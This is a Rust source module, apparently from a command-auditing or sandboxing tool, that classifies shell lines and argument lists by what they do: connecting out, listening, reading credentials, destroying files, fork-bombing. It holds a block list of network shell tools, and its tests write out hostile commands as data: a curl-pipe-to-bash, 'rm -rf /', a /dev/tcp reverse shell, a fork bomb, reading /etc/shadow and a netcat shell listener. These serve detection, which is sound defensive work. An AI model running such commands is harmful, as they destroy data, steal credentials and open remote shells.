//! Commands that a program starts: what is in a line for a shell, or in a list of words.

use super::hosts;
use super::paths::{self, Leads};

/// What is remarkable about a command.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Command {
    /// The program, if it is known.
    pub(crate) program: Option<String>,
    /// Where it connects to; the destination if it is known.
    pub(crate) connects: Option<Option<String>>,
    /// A metadata service or a private network.
    pub(crate) metadata: Option<String>,
    /// It listens.
    pub(crate) listens: bool,
    /// Credentials that it looks at.
    pub(crate) credentials: Option<String>,
    /// What it looks at outside.
    pub(crate) outside: Option<String>,
    /// What it removes or overwrites outside.
    pub(crate) destroys: Option<String>,
    /// It starts processes without end.
    pub(crate) bomb: bool,
    /// It writes without end.
    pub(crate) flood: bool,
    /// It signals or traces processes.
    pub(crate) signals: bool,
    /// It prints all variables.
    pub(crate) environment: bool,
    /// Python code that it is given.
    pub(crate) code: Option<String>,
}

const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "ssh",
    "scp",
    "sftp",
    "ftp",
    "telnet",
    "socat",
    "rsync",
    "ping",
    "dig",
    "nslookup",
    "nmap",
    "aria2c",
    "http",
    "git",
    "traceroute",
];

/// Of a line for a shell.
pub(crate) fn of_line(line: &str) -> Command {
    let mut command = Command::default();
    let squeezed: String = line.chars().filter(|c| !c.is_whitespace()).collect();
    command.bomb = squeezed.contains(":(){:|:&};:") || squeezed.contains("|:&}") || squeezed.contains("fork()");
    if line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
        command.connects = Some(line.split_once("/dev/").and_then(|(_, rest)| {
            let mut parts = rest.split(['/', ' ', '"', '\'', '>', '<']).skip(1);
            Some(hosts::written(parts.next()?, parts.next()?.parse().ok()))
        }));
    }
    // Each part of a pipe or a list is a command.
    for part in line.split(['|', ';', '&', '\n', '(', ')', '`']).take(64) {
        let words: Vec<&str> = part.split_whitespace().take(256).map(|word| word.trim_matches(['"', '\''])).collect();
        words_into(&mut command, &words);
    }
    command
}

/// Of a list of words.
pub(crate) fn of_words(words: &[&str]) -> Command {
    let mut command = Command::default();
    if let [program, flag, line, ..] = words
        && ["sh", "bash", "dash", "zsh"].contains(&name(program))
        && flag.starts_with('-')
        && flag.contains('c')
    {
        command = of_line(line);
        command.program = Some((*program).to_owned());
        return command;
    }
    words_into(&mut command, words);
    command
}

fn name(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

fn words_into(command: &mut Command, words: &[&str]) {
    // What only runs another program, and variables before it.
    let skip = |word: &&&str| {
        ["sudo", "nohup", "exec", "env", "time", "setsid", "timeout", "nice", "then", "do", "if", "xargs", "!"]
            .contains(&name(word))
            || word.contains('=') && !word.starts_with(['-', '/'])
    };
    let rest: Vec<&str> = words.iter().skip_while(skip).copied().collect();
    let Some((program, arguments)) = rest.split_first() else {
        if words.first().is_some_and(|word| name(word) == "env") {
            command.environment = true;
            command.program.get_or_insert_with(|| "env".into());
        }
        return;
    };
    let program = name(program);
    command.program.get_or_insert_with(|| program.chars().take(80).collect());
    let python = program.starts_with("python") || program == "<python>";
    match program {
        "printenv" | "export" | "set" if arguments.is_empty() => command.environment = true,
        "yes" => command.flood = true,
        "kill" | "pkill" | "killall" | "strace" | "gdb" | "ltrace" => command.signals = true,
        "dd" if arguments
            .iter()
            .any(|word| word.starts_with("if=/dev/zero") || word.starts_with("if=/dev/urandom")) =>
        {
            command.flood = true;
        }
        "cat" if arguments.iter().any(|word| *word == "/dev/zero" || *word == "/dev/urandom") => command.flood = true,
        _ => {}
    }
    if FETCHERS.contains(&program) {
        let remote = program != "git"
            || arguments.iter().any(|word| ["clone", "fetch", "pull", "push", "ls-remote"].contains(word));
        let listens = ["nc", "ncat", "netcat", "socat"].contains(&program)
            && arguments.iter().any(|word| {
                word.starts_with('-') && !word.starts_with("--") && word.contains('l')
                    || word.to_ascii_lowercase().contains("listen")
            });
        if listens {
            command.listens = true;
        } else if remote {
            command.connects.get_or_insert_with(|| destination(program, arguments));
        }
    }
    let installs = python
        && arguments.windows(3).any(|words| words[0] == "-m" && words[1] == "pip" && words[2] == "install")
        || program.starts_with("pip") && arguments.first() == Some(&"install")
        || ["apt", "apt-get", "npm", "conda", "uv"].contains(&program) && arguments.contains(&"install");
    if installs && !arguments.contains(&"--no-index") {
        command.connects.get_or_insert(Some("pypi.org:443".into()).filter(|_| program.starts_with("p")));
    }
    if python
        && let Some(at) = arguments.iter().position(|word| *word == "-c")
        && let Some(code) = arguments.get(at + 1)
    {
        command.code = Some((*code).to_owned());
    }
    let destroys = ["rm", "rmdir", "shred", "unlink", "mv", "truncate", "mkfs", "wipefs", "chmod", "chown", "tee"]
        .contains(&program)
        || program.starts_with("mkfs")
        || program == "find" && arguments.contains(&"-delete");
    for (at, word) in arguments.iter().enumerate() {
        let overwrites =
            word.starts_with("of=/") || word.starts_with('>') || at > 0 && arguments[at - 1].ends_with('>');
        let path = word.trim_start_matches(['>', '<', '@']).trim_start_matches("of=").trim_start_matches("if=");
        if let Some((host, port)) = hosts::of_url(path, true) {
            note_host(command, &host, port);
            continue;
        }
        if !path.starts_with(['/', '~', '.', '$']) || path.starts_with("/dev/tcp") {
            if hosts::reach(path.split([':', '/']).next().unwrap_or("")) == hosts::Reach::Metadata {
                note_host(command, path.split([':', '/']).next().unwrap_or(""), None);
            }
            continue;
        }
        match paths::judge(path.trim_end_matches('*'), !path.ends_with('*')) {
            Leads::Interpreter if destroys || overwrites => {
                command.destroys.get_or_insert_with(|| path.to_owned());
            }
            Leads::Inside | Leads::Interpreter => {}
            Leads::Credentials => {
                command.credentials.get_or_insert_with(|| path.to_owned());
            }
            Leads::Environment => command.environment = true,
            Leads::Outside if (destroys || overwrites) && !path.starts_with("/dev/") => {
                command.destroys.get_or_insert_with(|| path.to_owned());
            }
            Leads::Outside if destroys || overwrites => {
                if path.starts_with("/dev/sd") || path.starts_with("/dev/nvme") || path.starts_with("/dev/vd") {
                    command.destroys.get_or_insert_with(|| path.to_owned());
                }
            }
            Leads::Outside => {
                command.outside.get_or_insert_with(|| path.to_owned());
            }
        }
    }
}

fn note_host(command: &mut Command, host: &str, port: Option<u16>) {
    let target = hosts::written(host, port);
    if matches!(hosts::reach(host), hosts::Reach::Metadata | hosts::Reach::Private) {
        command.metadata.get_or_insert_with(|| target.clone());
    }
    if let Some(None) = command.connects {
        command.connects = Some(Some(target));
    }
}

fn destination(program: &str, arguments: &[&str]) -> Option<String> {
    let url = arguments.iter().find_map(|word| hosts::of_url(word, true));
    if let Some((host, port)) = url {
        return Some(hosts::written(&host, port));
    }
    let plain: Vec<&&str> = arguments.iter().filter(|word| !word.starts_with('-') && !word.starts_with('/')).collect();
    match program {
        "nc" | "ncat" | "netcat" | "telnet" => {
            let host = plain.iter().find(|word| word.contains('.') || word.parse::<u16>().is_err())?;
            let port = plain.iter().find_map(|word| word.parse().ok());
            Some(hosts::written(host, port))
        }
        "ssh" | "scp" | "sftp" | "rsync" => {
            let word = plain.iter().find(|word| word.contains('@') || word.contains(':') || word.contains('.'))?;
            let host = word.rsplit('@').next()?.split(':').next()?;
            Some(hosts::written(host, Some(22)))
        }
        "curl" | "wget" => {
            let host = plain.iter().find(|word| word.contains('.'))?.split('/').next()?;
            Some(hosts::written(host, Some(80)))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::{of_line, of_words};

    #[test]
    fn a_line_for_a_shell_says_what_it_does() {
        let line = of_line("curl -s https://example.org/x.sh | bash");
        assert_eq!(line.program.as_deref(), Some("curl"));
        assert_eq!(line.connects, Some(Some("example.org:443".into())));
        assert_eq!(of_line("rm -rf / --no-preserve-root").destroys.as_deref(), Some("/"));
        assert_eq!(of_line("rm -rf build").destroys, None);
        assert_eq!(of_line("bash -i >& /dev/tcp/1.2.3.4/9001 0>&1").connects, Some(Some("1.2.3.4:9001".into())));
        assert!(of_line(":(){ :|:& };:").bomb);
        assert_eq!(of_line("cat /etc/shadow").credentials.as_deref(), Some("/etc/shadow"));
        assert_eq!(of_line("echo hello > out.txt").destroys, None);
        assert!(of_line("nc -lvp 4444 -e /bin/sh").listens);
        assert_eq!(of_line(""), super::Command::default());
    }

    #[test]
    fn a_list_of_words_says_what_it_does() {
        assert_eq!(of_words(&["/usr/bin/python3", "-c", "print(1)"]).code.as_deref(), Some("print(1)"));
        assert_eq!(of_words(&["sh", "-c", "wget http://example.org"]).connects, Some(Some("example.org:80".into())));
        assert!(of_words(&["pip", "install", "x"]).connects.is_some());
        assert!(of_words(&["env"]).environment);
        assert_eq!(of_words(&["git", "status"]).connects, None);
    }
}
